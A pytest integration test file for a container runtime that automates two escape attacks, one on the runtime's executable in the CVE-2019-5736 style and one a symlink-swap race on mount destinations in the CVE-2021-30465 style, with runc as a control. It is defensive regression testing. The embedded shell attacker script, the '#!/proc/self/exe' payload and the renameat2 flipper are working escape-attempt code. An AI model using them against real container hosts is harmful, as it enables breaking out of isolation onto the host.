"""Escape attacks against the runtime itself, automated (issue 13), with runc run beside as the
control. Each attack succeeded against the runtime before its fix; the assertions are that it fails.

* The runtime's executable (the CVE-2019-5736 class): a process inside the container waits for each
  process that appears in its PID namespace during ``exec`` and tries to open its ``/proc/PID/exe``
  and ``/proc/PID/fd/*`` for writing. It never writes a byte: ``>>`` opens O_WRONLY|O_APPEND and
  the fd is closed at once. The runtime runs on a private copy of the interpreter, so even a
  successful open could not touch the host's python; its sha256 is checked all the same.
  Before the fix (non-dumpable + the read-only-bind re-exec, runtime/oci/init.py), in 30 execs:
  10 opens for writing with the default capabilities, 1 with all but CAP_SYS_PTRACE, 8 through
  ``#!/proc/self/exe``; after: 0, 0, 0 (runc 1.1.5: 0, 0, 0). Since the attacker tries a process
  again until its exe opens: before, an open held across the next exec (ETXTBSY), 7, an ETXTBSY;
  after: 0, 0, 0 (the shebang's interpreter seen in 30 of 30 execs).
* Mount destinations through a swapped symlink (the CVE-2021-30465 / CVE-2024-45310 class): a
  flipper swaps a directory in the rootfs with a symlink to a host directory (renameat2
  RENAME_EXCHANGE) while containers are created; nothing may appear in the host directory.
  Before the fd-relative mounts (runtime/oci/rootfs.py): a directory on the host after 3 of 100
  creates; after: 0 of 100 (about 40 creates fail instead); runc 1.1.5: 1 of 100.
"""

from __future__ import annotations

import contextlib
import hashlib
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from runtime.oci import caps as capslib
from tests.integration.conftest import Oci, cgroup_mounts

pytestmark = pytest.mark.root

RUNC = shutil.which("runc") or "/usr/sbin/runc"
EXEC_ROUNDS = 30


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- the runtime's executable -------------------------------------------------------------------

# busybox sh. Every process that appears gets its exe (and fds but 0-2) opened, on every pass until
# its exe opens (a runtime process is non-dumpable until its execve: through the shebang the
# interpreter it then runs is ours, and an attacker that gave up at first sight never saw it when
# the host was idle: seen 0 of 30 at load 2.6, 5-9 at load 6-7); an exe that is not
# the container's own busybox is then retried for writing in the background for 3 s: the kernel
# refuses a write open while any process runs the binary (ETXTBSY), so the attacker keeps the fd
# and waits for the runtime to finish, exactly as the published exploits do.
ATTACKER = r"""
seen=" 1 $$ "
while :; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$seen" in *" $p "*) continue;; esac
    if command exec 3</proc/$p/exe 2>/dev/null; then
      seen="$seen$p "  # (a process not readable yet is tried again on the next pass)
      t=$(readlink /proc/self/fd/3)
      case "$t" in
        /bin/*) exec 3<&-; continue ;;  # the container's own programs, this script included
        *) echo "seen $p $t" >> /attack.log
           ( i=0
             while [ $i -lt 300 ]; do
               if command exec 4>>/proc/self/fd/3 2>/dev/null; then
                 echo "OPENED exe $p $t $(stat -L -c %d:%i /proc/self/fd/4)" >> /attack.log
                 exec 4>&-; break
               fi
               i=$((i+1)); usleep 10000
             done ) &
           ;;
      esac
      exec 3<&-
    fi
    for f in /proc/$p/fd/*; do
      case "$f" in */fd/0|*/fd/1|*/fd/2|*'*') continue;; esac
      t=$(readlink $f 2>/dev/null)
      case "$t" in /*) ;; *) continue;; esac
      if command exec 5>>$f 2>/dev/null; then
        echo "OPENED fd $f $t $(stat -L -c %d:%i /proc/self/fd/5)" >> /attack.log; exec 5>&-
      fi
    done
  done
  if [ -e /pass-done ]; then rm -f /pass-done; fi  # the test asks to know a pass ended
done
"""


@pytest.fixture
def private_interpreter(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A copy of the interpreter for the runtime to run on: the attack aims at the runtime's
    executable, and that must never be the host's python, whatever the outcome."""
    real = Path(os.path.realpath(sys.executable))
    copy = tmp_path / "isoproof-python"
    shutil.copy2(real, copy)
    # The copy lives outside its installation: tell it where its standard library is.
    monkeypatch.setenv("PYTHONHOME", sys.base_prefix)
    return copy


def host_caps_but_ptrace() -> list[str]:
    """Every capability this runtime holds (a "privileged" container) except CAP_SYS_PTRACE."""
    status = Path("/proc/self/status").read_text().splitlines()
    eff = int(next(ln for ln in status if ln.startswith("CapEff")).split()[1], 16)
    return [n for n, bit in capslib.CAPS.items() if eff >> bit & 1 and n != "CAP_SYS_PTRACE"]


# (container capabilities, what exec runs): the default set (the runtime's process is out of reach
# until it drops its capabilities, then a few hundred microseconds remain before its execve); all
# but CAP_SYS_PTRACE (the whole of the runtime's time inside is in reach unless it is non-dumpable);
# a binary whose interpreter is /proc/self/exe, which makes the kernel run the runtime's own
# executable as the container's process (the original CVE-2019-5736 exploit).
VARIANTS = {
    "default-caps": (None, ["true"]),
    "all-caps-but-ptrace": (host_caps_but_ptrace(), ["true"]),
    "shebang-proc-self-exe": (None, ["/evil"]),
}


def give_image_what_python_needs(rootfs: Path) -> None:
    """What any image of a distribution has (the loader and libc), plus the interpreter's shared
    library and the few files it needs to start: an attacker ships them in the image (they are
    public); the busybox rootfs has no dynamic loader at all, which alone would stop the attack."""
    import sysconfig

    libs = [Path("/lib64/ld-linux-x86-64.so.2")]
    ldd = subprocess.run(["ldd", os.path.realpath(sys.executable)], capture_output=True, text=True)
    libs += [Path(w) for ln in ldd.stdout.splitlines() for w in ln.split() if w.startswith("/")]
    stdlib = Path(sysconfig.get_paths()["stdlib"])
    for f in [*libs, stdlib / "os.py"]:
        dest = rootfs / str(f).lstrip("/")
        dest.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(os.path.realpath(f), dest)
    shutil.copytree(stdlib / "encodings", rootfs / str(stdlib / "encodings").lstrip("/"))


def attack_exec(oci: Oci, bundle, cid: str, variant: str) -> tuple[list[str], list[str]]:
    """Run the attacker as the container's init, ``exec`` into it EXEC_ROUNDS times; return the
    lines it logged: (every runtime process it saw, every open for writing that succeeded)."""
    caps, args = VARIANTS[variant]
    proc: dict = {}
    if caps is not None:
        proc["capabilities"] = {k: caps for k in ("bounding", "effective", "permitted")}
    b = bundle(
        args=["sh", "-c", ATTACKER], process=proc, root={"path": "rootfs", "readonly": False}
    )
    if variant == "shebang-proc-self-exe":
        give_image_what_python_needs(b.rootfs)
    evil = b.rootfs / "evil"
    # As a Python script it lives 0.3 s (plus the interpreter's start), as the published exploit's
    # payload waits for its chance. It lived 2 s: 30 execs waited 60 s (69 s of CI). The attacker
    # needs it there for one of its passes over /proc. The runtime before the fix (PRE_FIX of
    # test_escape_battery.py), 30 execs a run, with the attacker that gave up on a process at first
    # sight: caught 5 and 1 times at 0.3 s, 5 times and once an ETXTBSY (an open for writing held
    # across the next exec) at 0.5 s, 8 times at 2 s, every catch an open for writing; with the
    # attacker that tries again: an ETXTBSY at 0.3 s. With the fix: seen 30 of 30, opened 0.
    evil.write_text("#!/proc/self/exe\nimport time\ntime.sleep(0.3)\n")
    evil.chmod(0o755)
    oci.create(b, cid)
    oci("start", cid)
    oci.wait_status(cid, "running")
    time.sleep(0.2)  # the attacker's first pass over /proc
    for _ in range(EXEC_ROUNDS):
        oci("exec", cid, *args, check=args == ["true"])
    log = b.rootfs / "attack.log"
    # Two whole passes over /proc after the last exec (the first may have begun before it): then
    # the log holds every process the attacker could see. Retries in the background outlive the
    # last sighting by 3 s: wait for them if there was one (or if the passes did not end in 10 s).
    passes = 0
    deadline = time.monotonic() + 10
    while passes < 2 and time.monotonic() < deadline:
        (b.rootfs / "pass-done").touch()
        while (b.rootfs / "pass-done").exists() and time.monotonic() < deadline:
            time.sleep(0.01)
        passes += not (b.rootfs / "pass-done").exists()
    if passes < 2 or "seen " in (log.read_text() if log.exists() else ""):
        time.sleep(3.5)
    lines = log.read_text().splitlines() if log.exists() else []
    oci("delete", "--force", cid)
    opened = [ln for ln in lines if ln.startswith("OPENED") and not in_image(b.rootfs, ln)]
    return [ln for ln in lines if ln.startswith("seen")], opened


def in_image(rootfs: Path, line: str) -> bool:
    """An "OPENED ... <path> <dev>:<ino>" line about one of the container's own files (say the
    libm its own program loaded), not a host file: the same inode under the rootfs."""
    *_, path, ident = line.split()
    try:
        st = os.stat(rootfs / path.lstrip("/"))
    except OSError:
        return False
    return f"{st.st_dev}:{st.st_ino}" == ident


@pytest.mark.parametrize("variant", VARIANTS)
def test_runtime_executable_cannot_be_opened_from_the_container(
    oci, bundle, private_interpreter, variant
):
    oci.command = [str(private_interpreter), "-S", "-m", "runtime.oci.cli"]
    host_python = Path(os.path.realpath(sys.executable))
    before = (sha256(private_interpreter), sha256(host_python))
    seen, opened = attack_exec(oci, bundle, "exe-attack", variant)
    print(
        f"isoproof-oci {variant}: {EXEC_ROUNDS} execs, exe seen {len(seen)}, opened {len(opened)}"
    )
    assert (sha256(private_interpreter), sha256(host_python)) == before
    assert opened == [], f"opened for writing from inside the container: {opened}"
    if variant == "shebang-proc-self-exe":
        # The kernel ran our interpreter as the container's process: the attacker must have had it
        # in hand (30 of 30 execs with the fix), or nothing was tried.
        assert seen, "the attacker never saw the runtime's executable run /evil"
    else:
        # non-dumpable: not even readable. (Through the shebang the kernel starts our interpreter
        # as the container's own process: readable, as any program it runs, but never writable.)
        assert seen == [], f"the runtime's executable was readable from the container: {seen[:3]}"


@pytest.mark.skipif(not os.path.exists(RUNC), reason=f"needs runc as the control; none at {RUNC}")
@pytest.mark.parametrize("variant", VARIANTS)
def test_runc_control_for_the_executable_attack(oci, bundle, variant):
    """The same attack against runc (its exe is a sealed memfd copy of itself): no open succeeds.
    Proves the attacker is judged on the same terms as our runtime."""
    oci.command = [RUNC]
    try:
        seen, opened = attack_exec(oci, bundle, "exe-runc", variant)
    finally:
        remove_runc_parent_cgroup(oci)
    print(f"runc {variant}: {EXEC_ROUNDS} execs, exe seen {len(seen)}, opened {len(opened)}")
    assert opened == []


def remove_runc_parent_cgroup(oci: Oci) -> None:
    """runc removes a container's cgroup but not the (then empty) parent it made for it."""
    if oci.created:
        oci("delete", "--force", oci.created[-1], check=False)
    for m in cgroup_mounts():
        with contextlib.suppress(OSError):
            os.rmdir(os.path.join(m, oci.cgroup_parent))


# --- mount destinations through a swapped symlink -----------------------------------------------

# The tries are the statistics, not waiting (a try is one create and one delete, ~0.2 s of the
# runtime's work). Before the fix, 3, 4 and 4 of 100 creates escaped (p ~ 0.037): 100 tries miss
# that flaw in ~2% of runs ((1 - p)^100 ~ 0.023), 50 tries in ~15%. No fewer, then.
RACE_TRIES = 100
RACE_TIME_BOX_S = 240.0

# Swaps <race>/d (a directory) and <race>/l (a symlink to the host directory) without pause, with
# renameat2(RENAME_EXCHANGE): at any moment "d" is one or the other.
FLIPPER = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
os.nice(19)  # only the CPU time nobody else wants: the creates must not starve
a, b = os.fsencode(sys.argv[1]), os.fsencode(sys.argv[2])
while True:
    libc.renameat2(-100, a, -100, b, 2)
"""


def race_creates(oci: Oci, bundle, host_dir: Path) -> tuple[int, int, int]:
    """Create and delete containers whose mount destination /race/d/sub is being flipped between
    a directory and a symlink to ``host_dir``. Returns (tries, creates that failed, tries after
    which something had appeared in ``host_dir``)."""
    b = bundle(args=["true"])
    race = b.rootfs / "race"
    race.mkdir()
    (race / "d").mkdir()
    os.symlink(str(host_dir), race / "l")
    b.config["mounts"].append(
        {"destination": "/race/d/sub", "type": "tmpfs", "source": "tmpfs", "options": ["nosuid"]}
    )
    b.write()
    flipper = subprocess.Popen([sys.executable, "-c", FLIPPER, str(race / "d"), str(race / "l")])
    tries = failed = escaped = 0
    deadline = time.monotonic() + RACE_TIME_BOX_S
    try:
        while tries < RACE_TRIES and time.monotonic() < deadline:
            tries += 1
            cid = f"race-{tries}"
            made = oci("create", "--bundle", str(b.path), cid, check=False, stdout=b.out)
            if made.returncode != 0:
                failed += 1
            if oci("delete", "--force", cid, check=False).returncode == 0:
                # gone: the fixture's teardown need not delete it again (100 more runtime starts,
                # 4.3 s of isoproof-oci's teardown); its leak check still runs
                oci.created.remove(cid)
            found = os.listdir(host_dir)
            if found:
                escaped += 1
                for name in found:  # only what the runtime made: empty directories
                    os.rmdir(host_dir / name)
    finally:
        flipper.kill()
        flipper.wait()
    return tries, failed, escaped


def test_mount_destination_race_never_reaches_the_host(oci, bundle, tmp_path):
    host_dir = tmp_path / "isoproof-host-dir"
    host_dir.mkdir()
    tries, failed, escaped = race_creates(oci, bundle, host_dir)
    print(f"isoproof-oci: {tries} creates, {failed} failed, host dir touched after {escaped}")
    assert tries == RACE_TRIES, f"only {tries} tries in the time box of {RACE_TIME_BOX_S} s"
    assert escaped == 0, f"{escaped} of {tries} creates made a directory in {host_dir}"


@pytest.mark.skipif(not os.path.exists(RUNC), reason=f"needs runc as the control; none at {RUNC}")
def test_runc_control_for_the_mount_race(oci, bundle, tmp_path):
    """runc 1.1.5 beside: the figures to compare with (issue 13 saw a mkdir on the host in 9 of 150
    of its creates), printed, not asserted: the control is there to show the attack is real."""
    oci.command = [RUNC]
    host_dir = tmp_path / "isoproof-host-dir"
    host_dir.mkdir()
    try:
        tries, failed, escaped = race_creates(oci, bundle, host_dir)
    finally:
        remove_runc_parent_cgroup(oci)
    print(f"runc: {tries} creates, {failed} failed, host dir touched after {escaped}")
    assert tries > 0
